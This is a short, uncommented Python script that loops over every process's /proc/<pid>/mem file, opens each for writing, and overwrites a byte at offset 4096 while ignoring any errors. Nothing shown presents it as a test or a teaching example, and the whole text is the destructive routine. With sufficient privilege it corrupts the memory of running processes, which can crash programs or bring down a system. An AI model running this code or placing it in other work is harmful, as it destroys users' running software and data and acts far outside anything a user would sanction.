import glob

for name in glob.glob("/proc/[0-9]*/mem"):
    try:
        with open(name, "r+b") as file:
            file.seek(4096)
            file.write(b"x")
    except (OSError, ValueError):
        pass
